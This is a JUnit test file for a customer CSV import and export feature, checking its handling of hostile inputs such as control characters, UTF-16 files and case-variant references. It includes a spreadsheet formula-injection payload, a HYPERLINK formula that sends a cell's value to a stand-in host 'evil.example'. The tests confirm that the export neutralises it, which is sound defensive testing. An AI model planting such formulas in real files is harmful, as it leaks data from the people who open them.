package org.rapport.customers.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.rapport.customers.api.CustomerImport.Options;
import org.rapport.customers.api.CustomerImport.Result;
import org.rapport.customers.api.CustomerSearch.Hit;
import org.rapport.customers.api.Progress;
import org.rapport.customers.model.Customer;
import org.rapport.customers.model.ImportKind;
import org.rapport.persistence.api.DatabaseKind;
import org.rapport.testing.CliRun;

/**
 * Inputs a hostile but fair tester tried (issue 14, defects 9 and 10): an address in angle
 * brackets, control characters, a UTF-16 file without a byte-order mark, formulas in cells that
 * an export writes, references that differ only in case, and a file refused for its header.
 */
class HostileInputTest {

    @TempDir
    Path home;

    @ParameterizedTest
    @EnumSource(DatabaseKind.class)
    void bracketsComeOffFormulasAreNeutralisedAndACaseVariantIsADuplicate(DatabaseKind kind) throws Exception {
        try (ImportFixture fixture = new ImportFixture(kind, Files.createDirectories(home.resolve("a")))) {
            String first = """
                    ref,name,email,phone,region,tags
                    C-1,"=HYPERLINK(""http://evil.example/?""&A1)",<Li.Na@Example.com>,+86 138 0013 8000,@SUM(1+1),-x;+y;ok
                    C-2,Plain,x@example.com,,-5,
                    """;
            Result result = fixture.importer.importFile(ImportKind.CUSTOMERS, ImportFixture.write(home, "first.csv", first), Options.defaults(), Progress.NONE);
            assertEquals(2, result.imported());
            assertEquals(0, result.warnings(), "an address in angle brackets is an address");
            Customer c1 = fixture.customers().get("C-1");
            assertEquals("li.na@example.com", c1.getEmails().get(0).getAddress());
            assertTrue(c1.getEmails().get(0).isValid());
            assertEquals(List.of(new Hit("C-1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "li.na@example.com", "+8613800138000", "@SUM(1+1)")),
                    fixture.search.search("<LI.NA@example.com>", 10), "a search normalises the same way");

            // an export neutralises what a spreadsheet would run; plain numbers stay numbers
            Path export = home.resolve("export.csv");
            fixture.exporter.exportCustomers(export, Progress.NONE);
            List<String> lines = Files.readAllLines(export);
            assertEquals("C-1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",li.na@example.com,+8613800138000,,'@SUM(1+1),other,'-x;+y;ok", lines.get(2));
            assertEquals("C-2,Plain,x@example.com,,,-5,other,", lines.get(3));

            // references that differ only in case: two customers, the second reported as a duplicate
            String second = """
                    ref,name
                    c-1,Lower Case
                    K-9,Mixed
                    k-9,Mixed Again
                    """;
            Path secondFile = ImportFixture.write(home, "second.csv", second);
            CliRun run = fixture.cli(fixture.importCommand(), "mo", "customers", secondFile.toString());
            assertEquals(0, run.code(), run.err());
            assertTrue(run.out().contains("imported: 3\n") && run.out().contains("duplicates: 2\n"), run.out());
            assertEquals("line,ref,matching_ref,matched_on\n2,c-1,C-1,ref\n4,k-9,K-9,ref\n", Files.readString(home.resolve("second.csv.duplicates.csv")));
            assertEquals("Lower Case", fixture.customers().get("c-1").getName());

            // the export imports again as it was: the spreadsheet quote comes off
            try (ImportFixture other = new ImportFixture(kind, Files.createDirectories(home.resolve("b")))) {
                Result again = other.importer.importFile(ImportKind.CUSTOMERS, export, Options.defaults(), Progress.NONE);
                assertEquals(2, again.imported());
                Customer back = other.customers().get("C-1");
                assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1)", back.getName());
                assertEquals("@SUM(1+1)", back.getRegion());
                assertEquals(List.of("-x", "+y", "ok"), back.getTags());
                assertEquals("-5", other.customers().get("C-2").getRegion());
            }
        }
    }

    @Test
    void aControlCharacterRejectsItsRowNamingLineAndField() throws Exception {
        try (ImportFixture fixture = new ImportFixture(DatabaseKind.DERBY_EMBEDDED, home)) {
            Path file = ImportFixture.write(home, "nul.csv", "ref,name,region\nC-1,Li\0Na,East\nC-2,Good,We\u001bst\nC-3,\"Tab\tand\nnewline\",North\n");
            Result result = fixture.importer.importFile(ImportKind.CUSTOMERS, file, Options.defaults(), Progress.NONE);
            assertEquals(1, result.imported(), "tabs and line breaks in a quoted value are text");
            assertEquals(2, result.rejected());
            assertEquals("""
                    line,field,value,reason
                    2,name,LiU+0000Na,"the value holds the control character U+0000, which no field may hold; the row was not imported"
                    3,region,WeU+001Bst,"the value holds the control character U+001B, which no field may hold; the row was not imported"
                    """, Files.readString(home.resolve("nul.csv.rejects.csv")));
            assertEquals(Map.of("C-3", "Tab\tand\nnewline"), Map.of("C-3", fixture.customers().get("C-3").getName()));
            assertFalse(fixture.customers().containsKey("C-1"));
        }
    }

    @Test
    void utf16WithoutAByteOrderMarkIsNotUtf8AndAHeaderRefusalPrintsTheDashId() throws Exception {
        try (ImportFixture fixture = new ImportFixture(DatabaseKind.DERBY_EMBEDDED, home)) {
            String text = "ref,name\nC-1,Li Na\n";
            for (var charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
                Path file = home.resolve("utf16-" + charset.name() + ".csv");
                Files.write(file, text.getBytes(charset));
                Result result = fixture.importer.importFile(ImportKind.CUSTOMERS, file, Options.defaults(), Progress.NONE);
                assertNull(result.importId(), charset.name());
                assertEquals("line,field,value,reason\n1,,,\"not UTF-8: the header holds NUL bytes, so the file is probably UTF-16 without a byte-order mark; "
                        + "nothing was imported; save it as UTF-8, or import it with the encoding UTF-16LE\"\n", Files.readString(home.resolve(file.getFileName() + ".rejects.csv")), charset.name());
                CliRun run = fixture.cli(fixture.importCommand(), "mo", "customers", file.toString());
                assertEquals(1, run.code());
                assertTrue(run.out().startsWith("import: -\n"), run.out());
                assertFalse(run.err().contains("Unknown columns"), run.err());
            }
            // refused for its header: the id line is '-', as for a file refused for its content (admin guide, Output)
            CliRun unknown = fixture.cli(fixture.importCommand(), "mo", "customers", ImportFixture.write(home, "u.csv", "ref,name,fax\nC-1,One,1\n").toString());
            assertEquals(1, unknown.code());
            assertEquals("import: -\n", unknown.out());
            assertTrue(unknown.err().contains("Unknown columns: fax."), unknown.err());
            assertEquals(0, fixture.count("SELECT COUNT(*) FROM CUST_CUSTOMER"));
        }
    }
}
